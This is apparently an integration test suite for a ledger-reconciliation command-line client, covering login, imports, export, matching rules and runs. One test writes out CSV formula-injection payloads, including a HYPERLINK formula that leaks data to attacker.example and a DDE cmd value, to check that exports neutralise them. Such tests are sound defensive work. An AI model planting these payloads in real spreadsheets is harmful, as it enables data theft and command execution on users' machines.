import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createTestOrganization, startTestServer, type TestOrganization, type TestServer } from '../../support/harness.ts';
import { BIN } from '../../support/processes.ts';

/**
 * The client commands through the real binary against the real server (docs/CLI.md): login and
 * profiles, catalog, imports (with the progress bar in a pseudo-terminal), transactions and
 * export piped as JSON and CSV across pages, manual matches, rules, runs and suggestions, and
 * the exit codes scripts rely on.
 */

interface Outcome {
  status: number | null;
  stdout: string;
  stderr: string;
}

describe('command line client commands', () => {
  let server: TestServer;
  let organization: TestOrganization;
  let home: string;

  /** Runs the binary with its own config directory, answering `input` on standard input. */
  function cli(args: string[], options: { input?: string; environment?: Record<string, string> } = {}): Promise<Outcome> {
    const { DATABASE_URL: _ignored, LEDGER_RECON_PROFILE: _profile, ...inherited } = process.env;
    const child = spawn(process.execPath, [BIN, ...args], { env: { ...inherited, XDG_CONFIG_HOME: home, ...options.environment } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    child.stdin.end(options.input ?? '');
    return new Promise((resolve) => child.on('close', (status) => resolve({ status, stdout, stderr })));
  }

  async function ok(args: string[], options?: Parameters<typeof cli>[1]): Promise<string> {
    const outcome = await cli(args, options);
    assert.equal(outcome.status, 0, `${args.join(' ')}\n${outcome.stderr}\n${outcome.stdout}`);
    return outcome.stdout;
  }

  async function json(args: string[]): Promise<any> {
    return JSON.parse(await ok(args));
  }

  before(async () => {
    server = await startTestServer('pglite');
    organization = await createTestOrganization(server);
    home = mkdtempSync(path.join(tmpdir(), 'ledger-recon-cli-'));
  });
  after(async () => {
    await server.close();
    rmSync(home, { recursive: true, force: true });
  });

  it('logs in with the secret on standard input, keeps the profile with mode 600, and refuses bad credentials with exit 3', async () => {
    const notYet = await cli(['sources']);
    assert.equal(notYet.status, 3);
    assert.match(notYet.stderr, /not logged in: run "ledger-recon login/);

    const wrong = await cli(['login', '--server', server.baseUrl, '--client-id', organization.clientId], { input: 'wrong-secret\n' });
    assert.equal(wrong.status, 3, wrong.stderr);
    assert.match(wrong.stderr, /invalid_client/);
    assert.match(wrong.stderr, /Developer page of the web app/);

    const output = await ok(['login', '--server', server.baseUrl, '--client-id', organization.clientId], { input: `${organization.clientSecret}\n` });
    assert.match(output, new RegExp(`organization ${organization.orgId}`));
    const file = path.join(home, 'ledger-recon', 'profiles.json');
    assert.equal(statSync(file).mode & 0o777, 0o600);
    assert.equal(statSync(path.dirname(file)).mode & 0o777, 0o700);
    const stored = JSON.parse(readFileSync(file, 'utf8'));
    assert.equal(stored.defaultProfile, 'default');
    assert.equal(stored.profiles.default.orgId, organization.orgId);

    // A second, named profile, chosen with --profile; the listing never shows a secret.
    await ok(['login', '--profile', 'second', '--server', server.baseUrl, '--client-id', organization.clientId, '--client-secret', organization.clientSecret]);
    const profiles = await json(['profiles']);
    assert.deepEqual(profiles.map((profile: any) => profile.name).sort(), ['default', 'second']);
    assert.ok(!JSON.stringify(profiles).includes(organization.clientSecret));
    const missing = await cli(['sources', '--profile', 'third']);
    assert.equal(missing.status, 3);
    assert.match(missing.stderr, /no profile "third" \(profiles: default, second\)/);
    await ok(['logout', '--profile', 'second']);
  });

  it('creates sources and datasets, imports files with reports, lists and exports every page as JSON and CSV', async () => {
    const source = await json(['sources', 'create', 'Northwind Bank']);
    const dataset = await json(['datasets', 'create', '--source', source.id, '--name', 'Operating EUR', '--column', 'invoiceNumber:string']);
    assert.match(dataset.id, /^[0-9a-f-]{36}$/);
    const datasets = await json(['datasets']);
    assert.deepEqual(
      datasets.map((entry: any) => entry.name),
      ['Operating EUR'],
    );

    const report = await json(['import', 'test/fixtures/imports/mt940/abn-amro-unstructured.sta', '--dataset', dataset.id]);
    assert.equal(report.status, 'completed');
    assert.equal(report.format, 'mt940');
    assert.ok(report.inserted > 0);
    const text = await ok(['import', 'test/fixtures/imports/mt940/abn-amro-unstructured.sta', '--dataset', dataset.id, '--json']);
    assert.equal(JSON.parse(text).inserted, 0, 'the same file again adds nothing');
    const csvReport = await json([
      'import',
      'test/fixtures/imports/csv/ing-nl.csv',
      '--dataset',
      dataset.id,
      '--mapping',
      'test/fixtures/imports/csv/ing-nl.csv.mapping.json',
    ]);
    assert.equal(csvReport.format, 'csv');

    // 1,200 more by JSON ingest: three pages of the CLI's 500.
    const startMs = Date.UTC(2025, 0, 1);
    const records = Array.from({ length: 1200 }, (_, index) => ({
      externalId: `R${index}`,
      timestamp: startMs + index * 60_000,
      amount: `${index + 1}.25`,
      currency: 'EUR',
      description: `row, "quoted" ${index}`,
      invoiceNumber: `INV-${index}`,
    }));
    const ingest = await fetch(`${server.baseUrl}/v1/api/${organization.orgId}/datasets/${dataset.id}/transactions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${organization.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ records }),
    });
    assert.equal(ingest.status, 200);
    const total = report.inserted + csvReport.inserted + 1200;

    const listed = await json(['transactions', '--dataset', dataset.id]);
    assert.equal(listed.length, total);
    assert.equal(new Set(listed.map((transaction: any) => transaction.id)).size, total);

    const csv = await ok(['transactions', '--dataset', dataset.id, '--format', 'csv', '--columns', 'invoiceNumber']);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    assert.equal(rows.length, total);
    assert.deepEqual(Object.keys(rows[0]!), ['id', 'time', 'amount', 'currency', 'status', 'description', 'reference', 'invoiceNumber', 'matches']);
    const quoted = rows.find((row) => row.invoiceNumber === 'INV-7')!;
    assert.equal(quoted.description, 'row, "quoted" 7');
    assert.equal(quoted.amount, '8.25');

    const january = await json([
      'transactions',
      '--dataset',
      dataset.id,
      '--from',
      '2025-01-01',
      '--to',
      '2025-01-01',
      '--search',
      'quoted" 11',
      '--status',
      'none',
    ]);
    const expected = records.filter((record) => record.description.includes('"quoted" 11')).map((record) => record.description);
    assert.equal(expected.length, 111);
    assert.deepEqual(january.map((transaction: any) => transaction.description).sort(), expected.sort());

    const exported = parse(await ok(['export', '--dataset', dataset.id]), { columns: true }) as Record<string, string>[];
    assert.equal(exported.length, total);
    assert.ok('invoiceNumber' in exported[0]! && 'matchedWith' in exported[0]!, Object.keys(exported[0]!).join(','));

    const badSearch = await cli(['transactions', '--dataset', dataset.id, '--search', '{"path":"nope","search":{"type":"string","value":"x"}}']);
    assert.equal(badSearch.status, 7);
    assert.match(badSearch.stderr, /unknown path "nope"\. Valid paths: .*invoiceNumber/);
    const badId = await cli(['transactions', '--dataset', 'nope']);
    assert.equal(badId.status, 2);
    assert.match(badId.stderr, /"nope" is not an id/);
    const unknownDataset = await cli(['transactions', '--dataset', '00000000-0000-4000-8000-000000000000']);
    assert.equal(unknownDataset.status, 4, unknownDataset.stderr);
    const failed = await cli(['import', 'test/fixtures/imports/bai2/malformed-file-total.bai2', '--dataset', dataset.id]);
    assert.equal(failed.status, 8, failed.stderr);
    assert.match(failed.stderr, /the import failed and nothing of the file was kept/);
  });

  it('writes CSV that no spreadsheet runs: a quote before text that would start a formula, numbers kept as numbers', async () => {
    const source = await json(['sources', 'create', 'Formula Bank']);
    const dataset = await json([
      'datasets',
      'create',
      '--source',
      source.id,
      '--name',
      'Hostile statement',
      '--column',
      'memo:string',
      '--column',
      'fee:money',
    ]);
    const hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"Invoice")';
    const records = [
      {
        externalId: 'F1',
        timestamp: Date.UTC(2026, 2, 1),
        amount: '-25.00',
        currency: 'EUR',
        description: hostile,
        reference: '@SUM(A1:A9)',
        memo: "+1+cmd|' /C calc'!A0",
        fee: '-0.50',
      },
      {
        externalId: 'F2',
        timestamp: Date.UTC(2026, 2, 2),
        amount: '12.00',
        currency: 'EUR',
        description: '\t=1+1',
        reference: '-2+3',
        memo: 'plain text',
        fee: '1.25',
      },
    ];
    const ingest = await fetch(`${server.baseUrl}/v1/api/${organization.orgId}/datasets/${dataset.id}/transactions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${organization.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ records }),
    });
    assert.equal(ingest.status, 200);
    const expected = [
      { amount: '-25.00', description: `'${hostile}`, reference: "'@SUM(A1:A9)", memo: "'+1+cmd|' /C calc'!A0", fee: '-0.50' },
      { amount: '12.00', description: "'\t=1+1", reference: "'-2+3", memo: 'plain text', fee: '1.25' },
    ];
    for (const args of [
      ['transactions', '--dataset', dataset.id, '--format', 'csv', '--columns', 'memo,fee'],
      ['export', '--dataset', dataset.id],
    ]) {
      const rows = parse(await ok(args), { columns: true }) as Record<string, string>[];
      assert.deepEqual(
        rows.map(({ amount, description, reference, memo, fee }) => ({ amount, description, reference, memo, fee })),
        expected,
        args[0],
      );
    }
  });

  it('shows a progress bar on a terminal while a file is imported, then the report as text', async () => {
    assert.ok(spawnSync('script', ['--version']).status === 0, 'the pseudo-terminal test needs util-linux "script"');
    const source = await json(['sources', 'create', 'Big bank']);
    const dataset = await json(['datasets', 'create', '--source', source.id, '--name', 'Big']);
    const file = path.join(home, 'big.csv');
    const lines = ['date,amount,currency,description'];
    for (let index = 0; index < 60_000; index += 1) lines.push(`2025-02-${String((index % 28) + 1).padStart(2, '0')},${index}.50,EUR,Payment number ${index}`);
    writeFileSync(file, lines.join('\n') + '\n');
    const mapping = path.join(home, 'big.mapping.json');
    writeFileSync(
      mapping,
      JSON.stringify({ dateFormat: 'YYYY-MM-DD', columns: { timestamp: 'date', amount: 'amount', description: 'description', currency: 'currency' } }),
    );
    const command = [process.execPath, BIN, 'import', file, '--dataset', dataset.id, '--mapping', mapping].map((part) => `'${part}'`).join(' ');
    const { DATABASE_URL: _ignored, ...inherited } = process.env;
    // The server runs in this process: the terminal session must not block it (no spawnSync).
    const child = spawn('script', ['-q', '-e', '-c', command, '/dev/null'], { env: { ...inherited, XDG_CONFIG_HOME: home, COLUMNS: '120' } });
    let screen = '';
    child.stdout.on('data', (chunk: Buffer) => (screen += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (screen += chunk.toString()));
    child.stdin.end();
    const status = await new Promise((resolve) => child.on('close', resolve));
    assert.equal(status, 0, screen);
    assert.match(screen, /uploading +\[[=-]+\] +\d+% \| \d+ of \d+ bytes/, 'a progress bar was drawn');
    assert.match(screen, /reading +\[[=-]+\] +100% \| \d+ rows read/);
    assert.match(screen, /import \S+ completed: csv \(utf-8\), 60000 entries read, 60000 new, 0 already known/);
  });

  it('matches and unmatches, applies and validates rules, starts, commits and reverts runs, and decides suggestions', async () => {
    const bankSource = await json(['sources', 'create', 'Bank']);
    const bank = await json(['datasets', 'create', '--source', bankSource.id, '--name', 'Bank account']);
    const ledger = await json(['datasets', 'create', '--source', bankSource.id, '--name', 'Ledger']);
    const day = Date.UTC(2025, 2, 3);
    const add = async (datasetId: string, rows: object[]) => {
      const response = await fetch(`${server.baseUrl}/v1/api/${organization.orgId}/datasets/${datasetId}/transactions`, {
        method: 'POST',
        headers: { authorization: `Bearer ${organization.token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ records: rows }),
      });
      assert.equal(response.status, 200);
    };
    await add(bank.id, [
      { externalId: 'B1', timestamp: day, amount: '120.50', currency: 'EUR', description: 'payment INV-1' },
      { externalId: 'B2', timestamp: day, amount: '75.00', currency: 'EUR', description: 'payment INV-2' },
      { externalId: 'B3', timestamp: day, amount: '40.00', currency: 'EUR', description: 'no reference' },
    ]);
    await add(ledger.id, [
      { externalId: 'L1', timestamp: day, amount: '120.50', currency: 'EUR', description: 'invoice', reference: 'INV-1' },
      { externalId: 'L2', timestamp: day, amount: '75.00', currency: 'EUR', description: 'invoice', reference: 'INV-2' },
      { externalId: 'L3', timestamp: day, amount: '40.00', currency: 'EUR', description: 'invoice a', reference: 'X-1' },
      { externalId: 'L4', timestamp: day, amount: '40.00', currency: 'EUR', description: 'invoice b', reference: 'X-2' },
    ]);
    const idOf = async (datasetId: string, description: string) => (await json(['transactions', '--dataset', datasetId, '--search', description])) as any[];

    // By hand: B1 with L1, then undone.
    const [b1] = await idOf(bank.id, 'INV-1');
    const [l1] = (await json(['transactions', '--dataset', ledger.id])).filter((transaction: any) => transaction.reference === 'INV-1');
    const created = await json(['match', '--origin', b1.id, '--target', l1.id, '--note', 'seen on the statement']);
    assert.equal(created.matches.length, 1);
    assert.equal(created.matches[0].amount, '120.50');
    assert.equal((await idOf(bank.id, 'INV-1'))[0].reconciliationStatus, 'full');
    await ok(['unmatch', created.matches[0].id]);
    assert.equal((await idOf(bank.id, 'INV-1'))[0].reconciliationStatus, 'none');
    const neither = await cli(['unmatch']);
    assert.equal(neither.status, 2);

    // Rules from a file: a bad one is refused with the place and the fix, and nothing is saved.
    const rulesFile = path.join(home, 'rules.json');
    const rule = (amountMatch: object) => ({
      name: 'Same amount and day',
      origin: { datasetIds: [bank.id] },
      target: { datasetIds: [ledger.id] },
      cardinality: '1:1',
      conditions: [amountMatch, { type: 'date', path: 'timestamp', min: '-P1D', max: 'P1D' }],
    });
    writeFileSync(rulesFile, JSON.stringify([rule({ type: 'amount', sign: 'same', tolerance: 'lots' })]));
    const invalid = await cli(['rules', 'validate', rulesFile]);
    assert.equal(invalid.status, 7, invalid.stderr);
    assert.match(invalid.stderr, /rule "Same amount and day" error: \/conditions\/0/);
    assert.equal((await json(['rules'])).length, 0);

    writeFileSync(rulesFile, JSON.stringify([rule({ type: 'amount', sign: 'same' })]));
    assert.match(await ok(['rules', 'validate', rulesFile]), /1 rule valid/);
    const applied = await json(['rules', 'apply', rulesFile]);
    assert.deepEqual(
      applied.map((entry: any) => entry.action),
      ['created'],
    );
    const reapplied = await json(['rules', 'apply', rulesFile]);
    assert.deepEqual(
      reapplied.map((entry: any) => [entry.action, entry.id]),
      [['updated', applied[0].id]],
    );

    // A dry run changes nothing; committed later it does; reverted it is undone.
    const dry = await json(['runs', 'start', '--dry-run']);
    assert.equal(dry.status, 'completed');
    assert.equal(dry.mode, 'dry-run');
    assert.equal(dry.totals.matched, 2);
    assert.equal((await idOf(bank.id, 'INV-1'))[0].reconciliationStatus, 'none');
    const results = await json(['runs', 'results', dry.id, '--kind', 'matches']);
    assert.equal(results.length, 2);
    // Without --kind, every kind; as a table, the transactions by date, amount and description, and the evidence in words.
    const every = await json(['runs', 'results', dry.id]);
    assert.deepEqual([...new Set(every.map((result: any) => result.kind))], ['match', 'ambiguous', 'unmatched']);
    const table = await ok(['runs', 'results', dry.id, '--format', 'csv']);
    assert.match(
      table,
      /match,Same amount and day,2025-03-03 120\.50 EUR payment INV-1,2025-03-03 120\.50 EUR invoice,Amounts equal: 120\.50 EUR and 120\.50 EUR; Booked at the same time/,
    );
    const committed = await json(['runs', 'commit', dry.id]);
    assert.equal(committed.status, 'completed');
    assert.equal((await idOf(bank.id, 'INV-1'))[0].reconciliationStatus, 'full');
    const runs = await json(['runs']);
    assert.ok(runs.some((run: any) => run.id === dry.id));

    // B3 (40.00) fits L3 and L4 equally: a suggestion, confirmed by option.
    const suggestions = await json(['suggestions']);
    assert.equal(suggestions.length, 1);
    assert.equal(suggestions[0].options.length, 2);
    await ok(['suggestions', 'confirm', suggestions[0].id, '--option', '1']);
    assert.equal((await idOf(bank.id, 'no reference'))[0].reconciliationStatus, 'full');
    assert.deepEqual(await json(['suggestions']), []);

    const reverted = await json(['runs', 'revert', dry.id]);
    assert.equal(reverted.status, 'reverted');
    assert.equal((await idOf(bank.id, 'INV-1'))[0].reconciliationStatus, 'none');
    const again = await cli(['runs', 'revert', dry.id]);
    assert.equal(again.status, 5, again.stderr);

    // A dry run not wanted is thrown away; a committed run is reverted instead (exit 5).
    const unwanted = await json(['runs', 'start', '--dry-run']);
    assert.match(await ok(['runs', 'discard', unwanted.id]), /discarded: the dry run and its results are removed/);
    assert.equal((await cli(['runs', 'show', unwanted.id])).status, 4);
    const refused = await cli(['runs', 'discard', dry.id]);
    assert.equal(refused.status, 5, refused.stderr);
    assert.match(refused.stderr, /revert it instead/);
  });

  it('undoes an import: a dry run says what would go, the undo removes it, a second undo exits 5', async () => {
    const source = await json(['sources', 'create', 'Undo Bank']);
    const dataset = await json(['datasets', 'create', '--source', source.id, '--name', 'Undo EUR']);
    const report = await json(['import', 'test/fixtures/imports/mt940/abn-amro-unstructured.sta', '--dataset', dataset.id]);
    assert.ok(report.inserted > 0);

    const preview = await json(['imports', 'undo', report.id, '--dry-run']);
    assert.deepEqual([preview.transactions, preview.matched, preview.undoable], [report.inserted, 0, true]);
    assert.equal((await json(['transactions', '--dataset', dataset.id])).length, report.inserted, 'a dry run removes nothing');

    const undone = await json(['imports', 'undo', report.id, '--note', 'wrong account']);
    assert.equal(undone.removed, report.inserted);
    assert.equal(undone.import.status, 'undone');
    assert.deepEqual(await json(['transactions', '--dataset', dataset.id]), []);

    const twice = await cli(['imports', 'undo', report.id]);
    assert.equal(twice.status, 5, twice.stderr);
    assert.match(twice.stderr, /already undone/);
    const notAnId = await cli(['imports', 'undo', 'nope']);
    assert.equal(notAnId.status, 2);

    const again = await json(['import', 'test/fixtures/imports/mt940/abn-amro-unstructured.sta', '--dataset', dataset.id]);
    assert.equal(again.inserted, report.inserted, 'the file imports again after the undo');
  });
});
